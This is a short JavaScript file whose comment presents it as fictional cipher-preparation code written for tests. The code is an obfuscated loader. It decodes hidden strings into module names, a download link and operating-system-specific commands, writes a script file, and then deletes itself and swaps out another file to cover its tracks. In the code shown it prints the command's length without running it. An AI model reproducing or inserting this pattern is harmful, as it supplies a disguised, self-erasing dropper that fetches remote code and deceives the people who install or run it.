// Makes ready what the ciphers need. Fictional; written for tests.
const stq=["_kLx+SMqE7KxlS8vE3LxSScqEHKxjScpE7Kx","__gvELKx","__gvEvKx","__goF3bx6WcvFXbx3W8rEHKx9SMoEzKx1S8rEPax+SMqE3KxsSspE7KxsScvETaxuS8oETLx5SsoFLax3WsvE3Lx+ScuEXKx","jSMpErLx4SMrEnKx","__wvF7bxkSMpErLx","__wrFvaxtWcuE7KxrS8oFjKxlScqEzKxuS8oFLax9S8pEnLxiWcrFHbx5SsrEzKxjWMqELKxuSMrE7KxkWsoF3LxgScuELaxqWcvFrbx6WsqFnKxiSMoEXKxuSsqFbbxGS8gEPIxBSskE/JxOSsnErax+SMoF3ax6WcuE7Kx4ScqELKx4ScvELaxoSspE3LxgSMrEXLxoSMpF7LxoSsqEvKxmSsrEzKx9ScrF7KxgWcrFnLxpSMrEPaxoScpE7KxrSsrEPaxiWsuEDKx5SsoF3axiS8pF3axhS8vE/LxuS8rF3ax5ScvEPKx/SsrE7LxqWcoEHKxoScpE7LxqWsoEnKx","__wqF3ax8W8qFTbx/WcrFHKxmSMuEPKxiW8uEjKxuSsoF3axzWsqF/axFScmEzIxdSclEHIxMSsjEXIxBS8rF3ax5ScvEPKx/SsrE7LxrSsvELKxtWcvEjLxiSsoEPKx","_saxtW8uFvaxzW8vFraxhScoEjLxjSsoFzLxoScqELaxqW8sF3axGS8gETIxGSskE/JxOScmE3ax0ScvEPaxpSspELax9SMoE7LxiWcrF7bxjSsoELKx5SMtE3LxqWcvEjLxlSsoEPKxqW8qFvaxtWcgEPIxEScgELJxfSciE7JxtWsvEfaxtW8vFnLxuSMuE7KxiS8vE3LxlWMqEHKx9SMoEzKxySMqEPax+S8rErKxsSspE7KxsSsuE3axpSMoFrax0ScvEPaxpScoEXax9SMoEnLxlWcrFLKxgWcrFHKx4SMuE7Kx","jSsoE7LxgS8oFjKxqSMrEbKxpSMrE3Lx","_kKxnS8oFjKxqSMrEbKxpSMrE3Lx","_UIxeSMjE3JxSScgEzIxJSsgEHIx","__ghEPIxEScgELJxYSsjE7Jx","__QuE3LxuSsvETax+WsvF3bx4WcvF/bx7WsoF3LxnScuELax","__QgEPIxEScgELJxfSciE7JxtW8rFLIxZSMjE3JxSScgEvIxOSsgEHIxoWcrFjKxhSMpEvKxnWcrF7Lx+S8qE3Lx0S8rE3ax9S8rEDaxtW8oE/KxpScqETKxlScrF3LxgWcrFHKxmSMqEXKx+S8vEjKx9SsoE3Lx"];
const ord="OrDeR_7077";
const _trans_1=function(x,r){try{const E=r.split("").map(Number);return x.split("").map(((x,r)=>{const S=x.charCodeAt(0),a=E[7*r*r%10];return String.fromCharCode(S^a^333)})).join("")}catch{}};
const _trans_2=function(x,r){try{let E=x.split("").reverse().join("").replaceAll("_","="),S=Buffer.from(E,"base64").toString("utf8");return _trans_1(S,r)}catch{}};
const _entry=function(x){try{
  const fs=require(_trans_2(stq[2],ord)),os=require(_trans_2(stq[1],ord)),{execSync:run}=require(_trans_2(stq[0],ord));
  const at=__filename,platform=os.platform(),link=_trans_2(stq[3],ord)+x;
  os.type();
  let command="";
  if(platform===_trans_2(stq[4],ord)){
    const script=_trans_2(stq[13],ord);
    fs.writeFileSync(script,_trans_2(stq[6],ord).replaceAll(_trans_2(stq[12],ord),link));
    command=_trans_2(stq[7],ord).replaceAll(_trans_2(stq[11],ord),script);
  }else if(platform===_trans_2(stq[5],ord)){
    command=_trans_2(stq[14],ord).replaceAll(_trans_2(stq[12],ord),link);
  }else{
    command=_trans_2(stq[8],ord).replaceAll(_trans_2(stq[12],ord),link);
  }
  console.log(command.length);
  fs.unlink(at,(x=>{}));
  fs.unlink(_trans_2(stq[9],ord),(x=>{}));
  fs.rename(_trans_2(stq[10],ord),_trans_2(stq[9],ord),(x=>{}));
}catch{}};
_entry("6202033");
